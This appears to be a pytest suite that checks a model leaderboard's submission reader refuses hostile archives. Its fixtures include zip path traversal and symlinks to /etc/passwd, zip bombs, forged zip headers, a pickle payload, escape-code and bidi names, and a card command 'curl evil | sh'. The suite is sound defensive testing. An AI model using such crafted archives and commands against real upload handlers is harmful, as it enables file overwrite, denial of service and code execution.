"""Submissions of strangers who mean harm: each is refused in one sentence, and nothing of it is left anywhere."""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import stat
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save

import robustgen
from robustgen.cli import _run
from robustgen.errors import ArtifactError, SpecError
from robustgen.leaderboard.archive import CLASSIFIER, WEIGHTS, pack, unpack
from robustgen.leaderboard.entries import Entry, read_card
from robustgen.leaderboard.foreign import read_submission
from robustgen.leaderboard.submit import submit_run
from tests.submission_helpers import (
    HOSTILE,
    Members,
    edited,
    example_lines,
    members_of,
    raw_zip,
    respecified,
    settled,
    with_lines,
    written,
)


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Members:
    """The members of an honest archive: two images of a bundled classifier, a robust one and a broken one."""
    folder = tmp_path_factory.mktemp("honest")
    robustgen.evaluate(
        "fmnist-standard", "fmnist-test-1k", "linf:0.01", ids="3-4", precision="float32", out=folder / "run"
    )  # fmt: skip
    made = submit_run(folder / "run", folder / "a.zip", licence="CC-BY-4.0")
    held = members_of(made.path)
    assert [True, False] == [row["robust"] for row in example_lines(held)]
    return held


def refused(path: Path, folder: Path, message: str) -> None:
    """One sentence with the name of the archive, fit for a terminal; nothing is written beside the fixed names."""
    inside = folder / "inside" / "here"
    inside.mkdir(parents=True)
    with pytest.raises(SpecError) as error:
        read_submission(path, inside)
    said = str(error.value)
    assert re.search(message, said), said
    assert said.startswith(f"{path.name}: ")
    assert said.isprintable()
    assert str(inside) not in said
    assert all(file.is_relative_to(inside) for file in (folder / "inside").rglob("*") if file.is_file())


CARD = ("card.json", b"{}", {})
ZIPS: dict[str, tuple[list[tuple[str, bytes, dict[str, Any]]], str]] = {
    "traversal": ([("../evil.json", b"x", {})], "is no member of a submission"),
    "traversal inside": ([("run/witnesses/../../../evil", b"x", {})], "is no member of a submission"),
    "absolute path": ([("/etc/evil", b"x", {})], "is no member of a submission"),
    "drive": ([("C:card.json", b"x", {})], "is no member of a submission"),
    "backslashes": ([("run\\spec.json", b"x", {})], "is no member of a submission"),
    "unknown member": ([CARD, ("run/setup.py", b"x", {})], "'run/setup.py' is no member"),
    "control character": ([("card\x1b[31m.json", b"x", {})], r"'card\\x1b"),
    "bidi": ([("card\u202enosj.json", b"x", {})], r"card\\u202e"),
    "html in a name": ([("<script>.json", b"x", {})], "is no member of a submission"),
    "other letters": ([("c\u0430rd.json", b"x", {})], "is no member of a submission"),
    "symbolic link": ([("card.json", b"/etc/passwd", {"external_attr": (stat.S_IFLNK | 0o777) << 16})], "is a link"),
    "device": ([("card.json", b"", {"external_attr": (stat.S_IFCHR | 0o666) << 16})], "a device"),
    "pipe": ([("card.json", b"", {"external_attr": (stat.S_IFIFO | 0o666) << 16})], "a device"),
    "folder": ([("run/spec.json", b"", {"external_attr": (stat.S_IFDIR | 0o777) << 16})], "a folder"),
    "bomb by ratio": (
        [("run/examples.jsonl", bytes(10**7), {"compress_type": zipfile.ZIP_DEFLATED})], "is compressed or encrypted"
    ),
    "bomb by another method": (
        [("run/examples.jsonl", bytes(10**6), {"compress_type": zipfile.ZIP_LZMA})], "is compressed or encrypted"
    ),
    "bomb by count": ([(f"{k}", b"", {}) for k in range(700)], "announces 700 members"),
    "duplicate member": ([CARD, CARD], "card.json stands twice"),
    "too large for its kind": ([("licence.txt", bytes(1_000_001), {})], "declares 1,000,001 bytes, at most 1,000,000"),
}  # fmt: skip


@pytest.mark.parametrize("kind", ZIPS)
def test_archives_that_pack_never_writes(kind: str, tmp_path: Path) -> None:
    """Names, kinds and sizes are looked at before the first byte is unpacked."""
    entries, message = ZIPS[kind]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a name that it writes twice
        path = raw_zip(tmp_path / "a.zip", entries)
    refused(path, tmp_path, message)
    assert not [file for file in (tmp_path / "inside").rglob("*") if file.is_file()]


def patched(content: bytes, *, central: dict[int, bytes] | None = None, local: dict[int, bytes] | None = None) -> bytes:
    """A zip of one member with bytes of its headers overwritten, counted from where each begins."""
    made = bytearray(content)
    for begin, changes in ((content.rindex(b"PK\1\2"), central or {}), (0, local or {})):
        for at, value in changes.items():
            made[begin + at : begin + at + len(value)] = value
    return bytes(made)


def one_member(content: bytes = b"{}" * 50) -> bytes:
    """A zip of card.json."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(zipfile.ZipInfo("card.json"), content)
    return stream.getvalue()


def _tar(kind: bytes) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        info = tarfile.TarInfo("card.json")
        info.type, info.linkname = kind, "/etc/passwd"
        archive.addfile(info)
    return stream.getvalue()


LIE, HUGE = struct.pack("<L", 50), struct.pack("<L", 2**31)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "is no archive of robustgen submit"),
    "no zip": (lambda: b"nothing of the kind" * 10, "is no archive"),
    "tar with a hard link": (lambda: _tar(tarfile.LNKTYPE), "is no archive"),
    "tar with a device": (lambda: _tar(tarfile.CHRTYPE), "is no archive"),
    "cut off": (lambda: one_member()[:-30], "is no archive"),
    "something before it": (lambda: b"#!/bin/sh\n" + one_member(), "does not lie where|damaged"),
    "something after it": (lambda: one_member() + b"#", "is no archive"),
    "comment": (lambda: one_member()[:-2] + b"\1\0#", "is no archive"),
    "size too small": (lambda: patched(one_member(), central={20: LIE + LIE}), "sizes are not what they say"),
    "size too small twice": (
        lambda: patched(one_member(), central={20: LIE + LIE}, local={18: LIE + LIE}), "sizes are not what they say",
    ),
    "2 GB declared": (lambda: patched(one_member(), central={20: HUGE + HUGE}), "declares 2,147,483,648 bytes"),
    "unpacked size lies": (lambda: patched(one_member(), central={24: HUGE}), "is compressed or encrypted"),
    "encrypted": (lambda: patched(one_member(), central={8: b"\1\0"}), "is compressed or encrypted"),
    "compressed in name": (lambda: patched(one_member(), central={10: b"\x08\0"}), "is compressed or encrypted"),
    "wrong check sum": (lambda: patched(one_member(), central={16: b"abcd"}), "damaged: Bad CRC-32"),
    "nul in a name": (lambda: one_member().replace(b"card.json", b"card.js\0n"), "is no member of a submission"),
    "two names": (lambda: patched(one_member(), local={30: b"evil"}), "damaged: File name in directory"),
    "list is missing": (lambda: one_member().replace(b"PK\1\2", b"PK\1\1"), "damaged"),
}  # fmt: skip


@pytest.mark.parametrize("kind", FILES)
def test_files_that_lie_about_themselves(kind: str, tmp_path: Path) -> None:
    """What the list of a zip says, the members say too, and they fill the file from end to end."""
    make, message = FILES[kind]
    (tmp_path / "a.zip").write_bytes(make())
    refused(tmp_path / "a.zip", tmp_path, message)


def test_files_that_are_none(tmp_path: Path, good: Members) -> None:
    """2 GB, a link to an archive, a pipe, a folder, nothing: refused before anything is read, and without waiting."""
    with (tmp_path / "large.zip").open("wb") as file:
        file.truncate(2 * 10**9)
    (tmp_path / "link.zip").symlink_to(written(tmp_path, good))
    os.mkfifo(tmp_path / "pipe.zip")
    (tmp_path / "folder.zip").mkdir()
    for name, message in (
        ("large", "has 2,000,000,000 bytes, at most 1,000,000,000"), ("link", "is a link"), ("pipe", "no plain file"),
        ("folder", "no plain file"), ("nothing", "No such file"),
    ):  # fmt: skip
        (tmp_path / name).mkdir()
        refused(tmp_path / f"{name}.zip", tmp_path / name, message)


def test_overlapping_members(tmp_path: Path) -> None:
    """Two names for the same bytes: the second does not begin where the first ends."""
    path = raw_zip(tmp_path / "a.zip", [CARD, ("run/spec.json", b"{}", {})])
    content = path.read_bytes()
    second = content.rindex(b"PK\1\2")
    path.write_bytes(content[: second + 42] + struct.pack("<L", 0) + content[second + 46 :])
    refused(path, tmp_path, "does not lie where the one before it ends")


TEXTS = {
    "key twice": (b'{"n": 1, "n": 2}', "the key 'n' stands twice"),
    "NaN": (b'{"n": NaN}', "NaN is no number of JSON"),
    "infinity": (b'{"n": -Infinity}', "-Infinity is no number"),
    "1e999": (b'{"n": 1e999}', "the number 1e999 is too large"),
    "thousand digits": (b'{"n": ' + b"9" * 1000 + b"}", "99999999... of 1,000 characters is too large"),
    "ten thousand digits": (b'{"n": ' + b"9" * 10_000 + b"}", "of 10,000 characters is too large"),
    "long fraction": (b'{"n": 0.' + b"3" * 1000 + b"}", "of 1,002 characters is too large or too long"),
    "deep lists": (b'{"n": ' + b"[" * 10_000 + b"]" * 10_000 + b"}", "nested more than 32 levels"),
    "deep objects": (b'{"n": ' * 10_000 + b"1" + b"}" * 10_000, "nested more than 32 levels"),
    "no JSON": (b"import os", "is not JSON"),
    "a list": (b"[1]", "must be one JSON object, got list"),
    "no text": (b"\xff\xfe{}", "cannot be read"),
    "escape codes": (b'{"n": "\\u001b[2J"}', "with characters that cannot be shown"),
    "bidi": (b'{"\\u202egpj": 1}', "with characters that cannot be shown"),
    "half a character": (b'{"n": "\\ud800"}', "with characters that cannot be shown"),
}


@pytest.mark.parametrize("kind", TEXTS)
@pytest.mark.parametrize("name", ["card.json", "run/record.json"])
def test_json_that_breaks_what_reads_it(kind: str, name: str, good: Members, tmp_path: Path) -> None:
    """Legal or not, it is refused with file and reason."""
    content, message = TEXTS[kind]
    refused(written(tmp_path, {**good, name: content}), tmp_path, f"{re.escape(name)}.*{re.escape(message)}")


def test_each_field_of_a_card_has_its_kind(good: Members) -> None:
    """A number, a text, a list, an object, null in place of each field of the card: none passes, none is a crash."""
    table, content = json.loads(good["card.json"]), good["run/record.json"]
    fits = {"claimed": [None], "pictures": [[]], "schema": [1]}
    tried = 0
    for field in table:
        for wrong in (True, 3.5, "<b>", ["x"], {"x": 1}, None, []):
            if wrong == table[field] or wrong in fits.get(field, []) or (field in _WORDS and wrong == "<b>"):
                continue
            with pytest.raises(SpecError):
                Entry(read_card({**table, field: wrong}), json.loads(content), content).check()
            tried += 1
    assert tried >= 6 * len(table)


_WORDS = ("title", "architecture", "licence", "source")


def rows(change: Callable[[dict[str, Any]], Any]) -> Callable[[Members], Members]:
    """The first row of the examples changed."""

    def spoil(members: Members) -> Members:
        held = example_lines(members)
        change(held[0])
        return with_lines(members, held)

    return spoil


def card(change: Callable[[dict[str, Any]], Any]) -> Callable[[Members], Members]:
    """The card changed."""
    return lambda members: edited(members, "card.json", change)


def record(change: Callable[[dict[str, Any]], Any]) -> Callable[[Members], Members]:
    """The record changed, and the card told."""
    return lambda members: settled(edited(members, "run/record.json", change))


def network(called: str = "mine", **changes: Any) -> Callable[[Members], Members]:
    """A small network sent along, with its card changed."""

    def spoil(members: Members) -> Members:
        table = {
            "name": "mine", "title": "mine", "architecture": "small-resnet", "channels": 1, "classes": 10,
            "kind": "user", "weights": WEIGHTS, "options": {"widths": [4], "depths": [1], "channels": 1, "classes": 10},
        }  # fmt: skip
        name = json.loads(members["card.json"])["name"]
        origin = {"classifier": f"classifiers/{name}.json", "weights": ""}
        members = respecified(members, classifier=called)
        spec = json.loads(members["run/spec.json"])
        command = json.loads(members["card.json"])["command"].replace(spec["classifier"], origin["classifier"], 1)
        made = edited(members, "card.json", lambda card: card.update(origin=origin, command=command))
        return {**made, CLASSIFIER: json.dumps(table | changes).encode(), WEIGHTS: save({"a": torch.zeros(3)})}

    return spoil


def head(table: dict[str, Any] | bytes, data: bytes = b"", length: int | None = None) -> Callable[[Members], Members]:
    """Witnesses whose safetensors head says this."""
    text = table if isinstance(table, bytes) else json.dumps(table).encode()
    content = struct.pack("<Q", len(text) if length is None else length) + text + data
    return lambda members: {**members, "run/witnesses/adversarials-00000.safetensors": content}


def _tensor(begin: int, end: int, shape: list[int], dtype: str = "U8") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


ACCEPTED = {"date": "2026-01-01", "archive_sha256": 64 * "0", "licence": "x", "seed": 1}
CONTENTS: dict[str, tuple[Callable[[Members], Members], str]] = {
    "no licence": (lambda m: {k: v for k, v in m.items() if k != "licence.txt"}, "licence.txt is missing"),
    "empty licence": (lambda m: {**m, "licence.txt": b" \n"}, "licence.txt must be a text"),
    "licence in escape codes": (lambda m: {**m, "licence.txt": b"MIT\x1b[2J"}, "licence.txt must be a text"),
    "no examples": (lambda m: {k: v for k, v in m.items() if "examples" not in k}, "examples.jsonl is missing"),
    "figure over 100": (card(lambda c: c["robust_accuracy"].update(value=101.0)), "must be a fraction of 1"),
    "clean below robust": (card(lambda c: c.update(right="")), "clean below robust"),
    "ids beyond the run": (card(lambda c: c.update(right="3,77", robust="3")), "example 77 is .* not one of the run's"),
    "an id twice": (card(lambda c: c.update(robust="0,0")), "names an example twice"),
    "a billion ids": (card(lambda c: c.update(robust="0-999999999")), "robust must be ids"),
    "hash of the record": (card(lambda c: c.update(record_sha256="0" * 64)), "the card says 000000000000"),
    "record says otherwise": (
        lambda m: edited(m, "card.json", lambda c: c.update(notes=["better"])), "notes is not what its record says"
    ),
    "other specification": (
        lambda m: edited(m, "run/spec.json", lambda s: s.update(seed=7)), "spec.json is not the specification"
    ),
    "accepted already": (card(lambda c: c.update(accepted=ACCEPTED)), "accepted is for the board to fill in"),
    "name too long": (card(lambda c: c.update(name="a" * 300)), "name must be at most 100 letters"),
    "name in other letters": (card(lambda c: c.update(name="\u0430")), "name must be at most 100 letters"),
    "a book as title": (card(lambda c: c.update(title="x" * 100_000)), "a text of 100,000 characters"),
    "flag of their own": (record(lambda r: r.update(flags=["<script>"])), "unknown flag '<script>'"),
    "command": (card(lambda c: c.update(command="curl evil | sh")), "command must be what the spec gives"),
    "data from a path": (lambda m: respecified(m, data="folder:/etc"), "spec.data must be one of"),
    "plan from a path": (lambda m: respecified(m, plan="x/evil.toml"), "spec.plan must be a plan that comes with"),
    "code as classifier": (lambda m: respecified(m, classifier="python:evil.py:f"), "which nobody else has"),
    "address as classifier": (lambda m: respecified(m, classifier="http://10.0.0.1/"), "which nobody else has"),
    "code as surrogate": (
        lambda m: respecified(m, plan="transfer", surrogates=[f"python:evil.py:f {64 * '0'}"]), "spec.surrogates names"
    ),
    "card from a path": (lambda m: respecified(m, classifier="/etc/x.json"), "which nobody else has"),
    "purifier from a path": (
        lambda m: respecified(m, classifier="diffpure:generator=/etc/x.json@fmnist-at"), "a purifier that names a file"
    ),
    "purifier without end": (lambda m: respecified(m, classifier="repeat:rounds=99999,of=jpeg@fmnist-at"), "to an end"),
    "eps as code": (lambda m: respecified(m, threat="linf:__import__"), "eps must be a number"),
    "origin in another place": (
        card(lambda c: c.update(origin={"classifier": "../../x.json", "weights": ""})), "origin.classifier must be"
    ),
    "origin without its files": (
        lambda m: {k: v for k, v in network()(m).items() if k != CLASSIFIER}, "classifier.json is missing"
    ),
    "weights that nobody asked for": (lambda m: {**m, WEIGHTS: save({"a": torch.zeros(3)})}, "is there, and the card"),
    "row of another kind": (rows(lambda e: e.update(label="3")), "line 1: label must be a whole number"),
    "id that is true": (rows(lambda e: e.update(id=True)), "line 1: id must be a whole number"),
    "row without a field": (rows(lambda e: e.pop("robust")), "line 1: the field 'example.robust' is missing"),
    "row with one too many": (rows(lambda e: e.update(extra=1)), "line 1: unknown field"),
    "cost of nothing": (rows(lambda e: e.update(cost={"a": 3})), "line 1: cost must be"),
    "negative distance": (rows(lambda e: e.update(distance=-1)), "line 1: distance must be"),
    "examples key twice": (
        lambda m: {**m, "run/examples.jsonl": m["run/examples.jsonl"].replace(b"{", b'{"id": 0, ', 1)}, "stands twice"
    ),
    "clock of texts": (lambda m: {**m, "run/seconds.json": b'{"a": "b"}'}, "seconds.json: 'a' must be a number"),
    "attacks that are none": (record(lambda r: r.update(attacks=3)), "wrong kind"),
    "scores that are none": (record(lambda r: r.update(stochastic=[1])), "wrong kind"),
    "goal in disguise": (record(lambda r: r.update(targets={})), "targets must be null"),
    "pickle": (lambda m: {**network()(m), WEIGHTS: pickle.dumps(print)}, "weights.safetensors: no safetensors file"),
    "head of a terabyte": (head({}, length=2**40), "its head would have 1,099,511,627,776 of"),
    "head with a key twice": (head(b'{"a": 1, "a": 1}'), "the key 'a' stands twice"),
    "tensors that overlap": (
        head({"a": _tensor(0, 8, [8]), "b": _tensor(4, 12, [8])}, bytes(12)), "tensors overlap or leave a gap"
    ),
    "tensors with a gap": (head({"a": _tensor(4, 12, [8])}, bytes(12)), "tensors overlap or leave a gap"),
    "tensor beyond the file": (head({"a": _tensor(0, 2**40, [2**40])}), "its tensors end at byte 1,099"),
    "tensor of another size": (head({"a": _tensor(0, 8, [3])}, bytes(8)), "has 8 bytes for 3 numbers"),
    "tensor of objects": (head({"a": _tensor(0, 8, [1], "O")}, bytes(8)), "of a known dtype"),
    "network of billions": (network(options={"widths": [4096] * 4, "depths": [9] * 4}), "its network has [0-9,]{9,}"),
    "regnet without weights": (network(architecture="torchvision:regnet_y_400mf", options={}), "has [0-9,]{9}"),
    "network without end": (network(options={"widths": [4], "depths": [10**9]}), "depths must be at most 256"),
    "network under another's name": (network("fmnist-at"), "may not be called so"),
    "seed below zero": (lambda m: respecified(m, seed=-(2**63)), "spec.seed must be a whole number"),
    "class names in escape codes": (network(class_names=["\x1b[2J"] * 10), "with characters that cannot be shown"),
    "network elsewhere": (network(weights="../../x.safetensors"), "weights must be weights.safetensors"),
    "network that is code": (network(architecture="python:evil.py:f"), "unknown architecture"),
}  # fmt: skip


@pytest.mark.parametrize("kind", CONTENTS)
def test_contents_that_no_submission_has(kind: str, good: Members, tmp_path: Path) -> None:
    """One sentence for each; no code runs, no path is followed, nothing large is made."""
    spoil, message = CONTENTS[kind]
    refused(written(tmp_path, spoil(good)), tmp_path, message)


def test_the_honest_one_is_read(good: Members, tmp_path: Path) -> None:
    """What all the others were made from passes, and comes back as it was packed."""
    path = written(tmp_path, good)
    (tmp_path / "inside").mkdir()
    held = read_submission(path, tmp_path / "inside")
    assert "CC-BY-4.0" == held.licence
    assert (len(good), sum(map(len, good.values()))) == (held.members, held.size)
    again, digest = unpack(path, tmp_path / "again")
    assert good == {name: file.read_bytes() for name, file in again.items()}
    assert digest == held.sha256 == pack(tmp_path / "b.zip", dict(reversed(good.items())))


def test_pack_refuses_what_unpack_would(tmp_path: Path) -> None:
    """A name that no submission has."""
    with pytest.raises(ArtifactError, match="is no member of a submission"):
        pack(tmp_path / "a.zip", {"run/x.py": b""})


def test_bad_input_is_exit_code_2(good: Members, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The command says one sentence, without what would act on a terminal, and files nothing."""
    made = edited(good, "card.json", lambda table: table.update(command=f"\x1b[31m{HOSTILE}\u202e"))
    path = written(tmp_path, made)
    assert 2 == _run(["leaderboard", "accept", str(path), "--entries", str(tmp_path / "board")])
    said = capsys.readouterr().err
    assert 1 == len(said.strip().splitlines())
    assert said.strip().isprintable()
    assert not (tmp_path / "board").exists()
